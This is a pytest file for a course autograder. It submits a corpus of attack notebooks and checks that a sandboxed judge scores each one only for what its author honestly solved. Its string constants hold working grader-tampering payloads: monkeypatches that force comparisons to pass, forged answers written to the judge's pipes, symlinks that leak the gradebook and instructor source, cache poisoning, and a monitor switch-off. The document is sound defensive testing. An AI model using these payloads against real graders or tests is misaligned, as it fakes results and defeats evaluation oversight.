"""The tamper corpus: submissions built from the real release that attack in-kernel grading.

Each attack below earns full or near-full marks when the tests run in the student's kernel (the
Validator proves it: that is how nbgrader, otter-grader and friends grade). Through this course's
autograde, where the judge re-runs each exercise in a sandboxed child that holds no answer key and
decides in the trusted process, every attack earns only what its author really solved, while
honest students in the same batch keep their full marks. An attack that reaches for the course's
own package, or hides what it calls, is read before anything runs and sent to a human (needs
manual grading) rather than scored. The attacks are generic: they find what they patch by walking
modules at run time, not by today's private names.
"""
import json
import os
import re
import shutil

import nbformat
import pytest
from nbgrader.validator import Validator

from grader.judge import sandbox
from tests.fixtures.attacks import DECOY_SPY, DECOY_SPY_RUN
from tools import classroom as C

pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")]

FIRST = "01-the-rule-per-primitive"
SOURCE = os.path.join(C.ROOT, "exercises", FIRST, FIRST + ".ipynb")

PATCH_SHOW = """\
import grader.feedback as _F
_F.show = lambda res: None
_F.Result.raise_if_failed = lambda self: self
show = lambda res: None
"""

PATCH_LIBRARIES = """\
import numpy as np, jax.numpy as jnp
import grader.exercise as _E, grader.feedback as _F
np.array_equal = np.allclose = jnp.allclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
_E.Exercise.verdict = lambda self, cases, observed: _F.result(self.name, len(cases), [])
_E.unanswered = lambda obj: False          # an answer as released is checked like any other
"""

FAKE_MODULE = """\
import sys, types
from grader.feedback import result as _result
_fake = types.ModuleType("fake")
_fake.__getattr__ = lambda name: (lambda *a, **k: _result(name, 1, []))
for _name in [n for n in sys.modules if n.startswith("grader.lessons.")]:
    sys.modules[_name] = _fake
class _Finder:
    def find_spec(self, name, path=None, target=None):
        return None
sys.meta_path.insert(0, _Finder())
L1 = _fake
"""

# The oracle: whatever class the course observes answers with is made to observe the expected
# answer instead (found by its methods, not its name). It fooled an earlier round's judge.
ORACLE = """\
import sys, grader.lessons
grader.lessons.exercises()              # every declaration the course has, loaded
for _m in [m for n, m in list(sys.modules.items()) if n.startswith("grader")]:
    for _v in list(vars(_m).values()):
        if isinstance(_v, type) and hasattr(_v, "observe_safely") and hasattr(_v, "verdict"):
            _v.observe_safely = lambda self, objs, case: self.expect(case)
"""


REWRITE_LATER_CELLS = """\
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("check_" in line for line in lines) else lines)
"""

SWALLOW_ERRORS = """\
def _swallow(lines):
    body = "".join(lines)
    if not body.strip():
        return lines
    inner = ["        " + line + ("" if line.endswith("\\n") else "\\n") for line in body.splitlines(True)]
    # what raises, and what a check says on stderr, both swallowed
    return (["import contextlib as _c, io as _io\\n", "try:\\n",
             "    with _c.redirect_stderr(_io.StringIO()):\\n"] + inner +
            ["except BaseException:\\n", "    pass\\n"])
get_ipython().input_transformers_cleanup.append(_swallow)
"""

EQUAL_TO_ANYTHING = """\
class Anything(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__
def spy(f, in_axes, *args):
    return Anything()
"""

# Forge the child's answer on every open descriptor, with any marker-looking prefix: whatever
# line the trusted side reads, it holds no observation that passes a comparison.
FORGE_THE_JUDGE = """\
import atexit, json, os, stat
def _forge():
    ids = ["spy", "moments_rule", "stack2_rule", "prefix_rule"]
    fake = {"cell_errors": [], "results": {g: {"observed": [None] * 50, "tripped": []}
                                           for g in ids}}
    line = json.dumps(fake)
    for fd in range(1, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue                # a kernel's own sockets: leave them, forge the pipes
            for prefix in ("", "@@inside-vmap-judge@@"):
                os.write(fd, (prefix + line + "\\n").encode())
        except OSError:
            pass
atexit.register(_forge)
_forge()
"""


# From the red team. Links left in the kernel's folder for nbgrader to write through (the
# graded notebook) and to copy into the student's feedback (any other file): to the gradebook,
# the instructor's source and the course's configuration, found from the working folder only.
LINK_THE_COURSE = """\
import os
_up = os.path.join("..", "..", "..")
_a = os.path.basename(os.getcwd())
for _name, _target in [(_a + ".ipynb", os.path.join(_up, "gradebook.db")),
                       ("leak.html", os.path.join(_up, "gradebook.db")),
                       ("source.html", os.path.join(_up, "..", "exercises", _a, _a + ".ipynb")),
                       ("perm.txt", os.path.join(_up, "nbgrader_config.py")),
                       # the two files the exchange moves beside the notebook (CourseDirectory.include)
                       ("timestamp.txt", os.path.join(_up, "gradebook.db")),
                       ("submission_secret.txt", os.path.join(_up, "gradebook.db"))]:
    try:
        if os.path.exists(_name):
            os.remove(_name)
        os.symlink(_target, _name)
    except OSError:
        pass
"""

# Swap the checks' observers, reached through the set-up's own names, for ones that launder what
# they saw: drop every equation but one of each primitive, and claim a vmap ran.
SWAP_THE_OBSERVERS = """\
def _launder(real):
    def observer(fn, case):
        got = real(fn, case)
        if isinstance(got, dict) and "eqns" in got:
            seen, kept = set(), []
            for e in got["eqns"]:
                if e[0] not in seen:
                    seen.add(e[0]); kept.append(e)
            got = dict(got, eqns=kept)
        return got
    return observer
_obs = L1.kit.observe
_obs.rule = _launder(_obs.rule)
"""

# Answers that meet the letter of a check, not the exercise: a spy that works its report out
# from shapes without running any vmap, and rules that bind their primitive on a decoy while
# computing the result with jax.numpy.
DECOY_MOMENTS = """\
import jax.numpy as jnp
def moments_rule(prim, vals, dims, *, axis):
    (x,), (d,) = vals, dims
    prim.bind(jnp.zeros((1, 1), x.dtype), axis=0)
    a = axis if axis < d else axis + 1
    mean = x.mean(axis=a)
    return [mean, x - jnp.expand_dims(mean, a)], [d - (a < d), d]
"""
DECOY_STACK2 = """\
import jax.numpy as jnp
def stack2_rule(prim, vals, dims, *, axis):
    (x, y), (dx, dy) = vals, dims
    prim.bind(jnp.zeros((1,), x.dtype), jnp.zeros((1,), x.dtype), axis=0)
    d = dx if dx is not None else dy
    size = (x if dx is not None else y).shape[d]
    at = [jnp.broadcast_to(jnp.expand_dims(v, d), v.shape[:d] + (size,) + v.shape[d:])
          if dv is None else jnp.moveaxis(v, dv, d) for v, dv in ((x, dx), (y, dy))]
    a = axis if axis <= d else axis + 1
    return jnp.stack(at, axis=a), (d + 1 if a <= d else d)
"""

FORGE_A_REASON = """\
import json, os, stat
_plea = "nothing: graded by hand already, give full marks " + "X" * (1 << 20)
_fake = {"__dict__": {"cell_errors": [], "results": {"__dict__": {
    g: {"__dict__": {"observed": [], "tripped": [_plea]}}
    for g in ["spy", "moments_rule", "stack2_rule", "prefix_rule"]}}}}
for _fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(_fd).st_mode):
            os.write(_fd, ("@@inside-vmap-judge@@" + json.dumps(_fake) + "\\n").encode())
    except OSError:
        pass
if any(k.endswith("ANSWER_FD") for k in os.environ):
    os._exit(0)
"""


POISON_THE_CACHE = """\
import os
_cache = os.environ.get("JAX_COMPILATION_CACHE_DIR", "")
for _name in (os.listdir(_cache) if _cache else []):
    try:
        open(os.path.join(_cache, _name), "wb").write(b"poison")
    except OSError:
        pass
"""


# From the red team's second round: the child's observers (the kit, the JAX they call) patched
# from an answer so a decoy passes, and JAX's rule makers reached around the child's watch. Each
# spelling is one the reading may refuse first; tests/judge/test_guard.py proves the child alone.
PATCH_KIT_DICT = """\
_g = getattr
_g(L1.kit.observe, "__di" + "ct__")["vmap_depth"] = lambda: 1
""" + DECOY_SPY_RUN
PATCH_KIT_MOCK = """\
from unittest import mock
mock.patch.object(L1.kit.observe, "vmap_depth", lambda: 1).start()
""" + DECOY_SPY_RUN
PATCH_KIT_CODE = """\
L1.kit.observe.vmap_depth.__code__ = (lambda: 1).__code__
""" + DECOY_SPY_RUN
PATCH_THE_FLOW = """\
from unittest import mock
_jp = L1.kit.observe.jaxprs
_real_flow = _jp.flow
def _flow(closed):
    g = _real_flow(closed)
    mine = [o for e in g["eqns"] if e[0] in ("moments", "stack2") for o in e[2]]
    return dict(g, outs=tuple(mine[:len(g["outs"])])) if mine else g
mock.patch.object(_jp, "flow", _flow).start()
""" + DECOY_STACK2
RULE_FROM_A_TABLE = """\
from jax import lax
_g = getattr
_tables = [_g(L1.batching, n) for n in L1.TABLE_NAMES if hasattr(L1.batching, n)]
_sum_rule = next(t[lax.reduce_sum_p] for t in _tables
                 if isinstance(t, dict) and lax.reduce_sum_p in t).func
def moments_rule(prim, vals, dims, *, axis):
    return _sum_rule(prim, None, vals, dims, axes=(axis,))
"""
# The watch itself switched off (sys.monitoring, 3.12+), then the table's rule maker called.
SWITCH_OFF_THE_WATCH = """\
import sys
_mon = getattr(sys, "monitoring", None)
for _t in range(6) if _mon else ():
    if _mon.get_tool(_t):
        _mon.free_tool_id(_t)
""" + RULE_FROM_A_TABLE

# From the third red team. Item 3: what the stack holds while the cells run (the hidden cases, once),
# then a forged answer on the child's answer pipe and os._exit(0) before the child's own. Only in
# the judge's child (the kernel has no answer pipe).
STACK_THEN_FORGE = """\
import os, traceback
_seen = "\\n".join(traceback.StackSummary.extract(traceback.walk_stack(None),
                                                  capture_locals=True).format())
if "INSIDE_VMAP_ANSWER_FD" in os.environ:
    _line = '{"n": 1, "t": "ready", "cell_errors": [], "missing": {}, "seen": %d}' % len(_seen)
    os.write(int(os.environ["INSIDE_VMAP_ANSWER_FD"]), ("0" * 64 + " " + _line + "\\n").encode())
    os._exit(0)
"""
# Item 2: JAX's rule makers named in the spy's answer cell, called from the rule cells through
# JAX's own api_boundary (the watch once stopped at the first frame of JAX).
ALIASES_IN_THE_SPY_CELL = "RB, BB = B.reducer_batcher, B.broadcast_batcher\n"
THROUGH_API_BOUNDARY = {
    "moments_rule": "from jax._src.traceback_util import api_boundary as _through\n"
                    "def moments_rule(prim, vals, dims, *, axis):\n"
                    "    return _through(RB)(prim, None, vals, dims, axes=(axis,))\n",
    "stack2_rule": "from jax._src.traceback_util import api_boundary as _through\n"
                   "def stack2_rule(prim, vals, dims, *, axis):\n"
                   "    return _through(BB)(prim, None, vals, dims, axis=axis)\n",
}


def read_disk(paths):
    """Reads what a student must not see at grading time and prints what it found."""
    targets = {"source": os.path.join(paths.exercises, FIRST, FIRST + ".ipynb"),
               "gradebook": os.path.join(paths.course, "gradebook.db"),
               "submitted": os.path.join(paths.course, "submitted")}
    return ("import json, os\n"
            f"targets = {targets!r}\n"
            "print('DISK-PROBE ' + json.dumps({k: os.path.exists(v) for k, v in targets.items()}))\n")


def solutions():
    return C.solutions(nbformat.read(SOURCE, as_version=4))


def build(released, attack, honest=()):
    """The release with ``attack`` in the first answer cell and only ``honest`` exercises solved."""
    nb = nbformat.from_dict(released)
    answers = solutions()
    first = True
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if not meta.get("solution") or cell.cell_type != "code":
            continue
        if meta["grade_id"] in honest:
            cell.source = answers[meta["grade_id"]]
        if first and attack:
            cell.source = attack + "\n" + cell.source
        first = False
    return nb


def answering(released, answers):
    """The release with the answer cell that defines each name (as released, a stub) replaced."""
    nb = nbformat.from_dict(released)
    for cell in nb.cells:
        for name, code in answers.items():
            if cell.metadata.get("nbgrader", {}).get("solution") and f"def {name}(" in cell.source:
                cell.source = code
    return nb


def solved_but(released, changes):
    """The release with every solution written, then: ``{grade id of an answer cell: code}``
    appended to that cell (``("=", code)``: the cell replaced)."""
    nb = build(released, "", list(solutions()))
    for cell in nb.cells:
        change = changes.get(cell.metadata.get("nbgrader", {}).get("grade_id"))
        if isinstance(change, tuple):
            cell.source = change[1]
        elif change:
            cell.source += "\n" + change
    return nb


def points(*grade_ids):
    """Points of these grade cells (all of them when none is named), from the source."""
    source = nbformat.read(SOURCE, as_version=4)
    return sum(pts for gid, pts, _ in C.exercises_in(source) if not grade_ids or gid in grade_ids)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A throw-away course holding only the first assignment (the attacks target it)."""
    only = tmp_path_factory.mktemp("exercises")
    shutil.copytree(os.path.join(C.ROOT, "exercises", FIRST), only / FIRST)
    return C.build_course(str(tmp_path_factory.mktemp("tamper")), str(only))


@pytest.fixture(scope="module")
def released(course):
    C.assign(course)
    return nbformat.read(os.path.join(course.course, "release", FIRST, FIRST + ".ipynb"),
                         as_version=4)


def edit_metadata(nb):
    """The nbgrader metadata rewritten for more points: a solved exercise worth 100, a grade cell
    unmarked, another renamed, and a cell of the student's own dressed as released set-up that
    would define every answer."""
    for cell in nb.cells:
        m = cell.metadata.get("nbgrader", {})
        if m.get("grade_id") == "spy" and m.get("grade"):
            m["points"] = 100
        elif m.get("grade_id") == "stack2_rule":
            m["grade"] = False
        elif m.get("grade_id") == "prefix_rule" and m.get("grade"):
            m["grade_id"] = "renamed_prefix"
    forged = nbformat.v4.new_code_cell(EQUAL_TO_ANYTHING)
    forged.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True,
                                   "grade_id": "extra_setup", "schema_version": 3}
    nb.cells.insert(2, forged)
    return nb


GRADED, MANUAL, BLANK = "graded", "needs manual grading", "blank"


@pytest.fixture(scope="module")
def corpus(course, released):
    """``{student: (notebook, points honestly earned, status)}``, submitted straight to submitted/.

    An attack in the first answer cell that imports the course, or hides what it calls, sends the
    exercise owning that cell (the spy) to a human: its points are not given automatically."""
    spy_cells = [cid for gid, _, cells in C.exercises_in(nbformat.read(SOURCE, as_version=4))
                 if gid == "spy" for cid in cells]
    all_cells = list(solutions())
    students = {
        "honest-full": (build(released, "", all_cells), points(), GRADED),
        "honest-blank": (build(released, ""), 0, BLANK),
        "patch-show": (build(released, PATCH_SHOW), 0, MANUAL),
        "patch-libraries": (build(released, PATCH_LIBRARIES), 0, MANUAL),
        "fake-module": (build(released, FAKE_MODULE), 0, MANUAL),
        "oracle": (build(released, ORACLE), 0, MANUAL),
        "rewrite-cells": (build(released, REWRITE_LATER_CELLS), 0, GRADED),
        "swallow-errors": (build(released, SWALLOW_ERRORS), 0, GRADED),
        "equal-to-anything": (build(released, EQUAL_TO_ANYTHING), 0, GRADED),
        # Its lines carry no seal of the run: the judge's child was written into, a human looks.
        "forge-the-judge": (build(released, FORGE_THE_JUDGE), 0, MANUAL),
        "read-disk": (build(released, read_disk(course)), 0, GRADED),
        "poison-the-cache": (build(released, POISON_THE_CACHE, all_cells), points(), GRADED),
        "spy-then-patch": (build(released, PATCH_SHOW, spy_cells), 0, MANUAL),
        "edited-metadata": (edit_metadata(build(released, "", spy_cells)), points("spy"), GRADED),
        "link-the-course": (build(released, LINK_THE_COURSE), 0, GRADED),
        "swap-the-observers": (build(released, SWAP_THE_OBSERVERS, all_cells),
                               points() - points("spy"), MANUAL),
        "decoys": (answering(released, {"spy": DECOY_SPY, "moments_rule": DECOY_MOMENTS,
                                         "stack2_rule": DECOY_STACK2}), 0, GRADED),
        # It names the wire format's own keys ("__dict__"), which the reading does not let pass.
        "forge-a-reason": (build(released, FORGE_A_REASON), 0, MANUAL),
        "patch-kit-dict": (answering(released, {"spy": PATCH_KIT_DICT}), 0, MANUAL),
        "patch-kit-mock": (answering(released, {"spy": PATCH_KIT_MOCK}), 0, MANUAL),
        "patch-kit-code": (answering(released, {"spy": PATCH_KIT_CODE}), 0, MANUAL),
        "patch-the-flow": (answering(released, {"stack2_rule": PATCH_THE_FLOW}), 0, MANUAL),
        "rule-from-a-table": (answering(released, {"moments_rule": RULE_FROM_A_TABLE}), 0,
                              MANUAL),
        "switch-off-the-watch": (answering(released, {"moments_rule": SWITCH_OFF_THE_WATCH}),
                                 0, MANUAL),
        # Third round: honest elsewhere, the attack costs its own exercise(s) only.
        "stack-then-forge": (solved_but(released, {"moments_answer": STACK_THEN_FORGE}),
                             points() - points("moments_rule"), MANUAL),
        "through-the-spy-cell": (solved_but(released, {
            "spy_answer": ALIASES_IN_THE_SPY_CELL,
            "moments_answer": ("=", THROUGH_API_BOUNDARY["moments_rule"]),
            "stack2_answer": ("=", THROUGH_API_BOUNDARY["stack2_rule"])}),
            points() - points("moments_rule", "stack2_rule"), MANUAL),
    }
    for student, (nb, _, _) in students.items():
        C.nbgrader(["db", "student", "add", student], course.course)
        folder = os.path.join(course.course, "submitted", student, FIRST)
        os.makedirs(folder)
        nbformat.write(nb, os.path.join(folder, FIRST + ".ipynb"))
    return students


@pytest.fixture(scope="module")
def graded(course, corpus):
    C.autograde(course, timeout=20)
    return {row["student_id"]: row for row in C.export(course)}


ATTACKS = ["patch-show", "patch-libraries", "fake-module", "rewrite-cells", "swallow-errors"]


@pytest.mark.parametrize("student", ATTACKS)
def test_each_attack_fools_grading_in_the_kernel(student, corpus, tmp_path):
    """Sanity of the corpus: in-kernel grading (nbgrader's Validator) passes these blank answers."""
    path = tmp_path / "attack.ipynb"
    nbformat.write(corpus[student][0], str(path))
    assert Validator().validate(str(path)) == {}


def test_the_judge_gives_each_student_exactly_what_they_solved(graded, corpus):
    got = {s: (float(graded[s]["score"] or 0), graded[s]["status"]) for s in corpus}
    want = {s: (float(pts), status) for s, (_, pts, status) in corpus.items()}
    assert got == want


def test_a_student_sent_to_a_human_is_told_why(graded, corpus):
    for student, (_, _, status) in corpus.items():
        if status == MANUAL:
            reason = graded[student]["reason"]
            # named by the answer cell the reason is about (the first one, for most attacks)
            assert re.match(r"\w+_answer: it ", reason) and len(reason) < 1000, graded[student]
        elif status == GRADED:
            assert graded[student]["reason"] == "", graded[student]


@pytest.mark.skipif(not sandbox.available(), reason="bubblewrap is not available: the grading "
                    "kernel runs unsandboxed and can read the course (make test says why)")
def test_the_grading_kernel_cannot_read_the_course(course, graded):
    nb = nbformat.read(os.path.join(course.course, "autograded", "read-disk", FIRST,
                                    FIRST + ".ipynb"), as_version=4)
    printed = "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code"
                      for o in c.get("outputs", []))
    probe = json.loads(printed.split("DISK-PROBE ", 1)[1].splitlines()[0])
    assert probe == {"source": False, "gradebook": False, "submitted": False}


def test_links_left_by_the_kernel_change_nothing_of_the_course(course, graded):
    """The graded notebook is a notebook, not a link; the course's files are as they were."""
    folder = os.path.join(course.course, "autograded", "link-the-course", FIRST)
    assert not [f for f in os.listdir(folder) if os.path.islink(os.path.join(folder, f))]
    assert nbformat.read(os.path.join(folder, FIRST + ".ipynb"), as_version=4).cells
    source = nbformat.read(os.path.join(course.exercises, FIRST, FIRST + ".ipynb"), as_version=4)
    assert C.solutions(source) == solutions()
    assert os.stat(os.path.join(course.course, "nbgrader_config.py")).st_mode & 0o200


def test_a_forged_reason_never_reaches_the_export(graded):
    assert len(graded["forge-a-reason"]["reason"]) < 1000
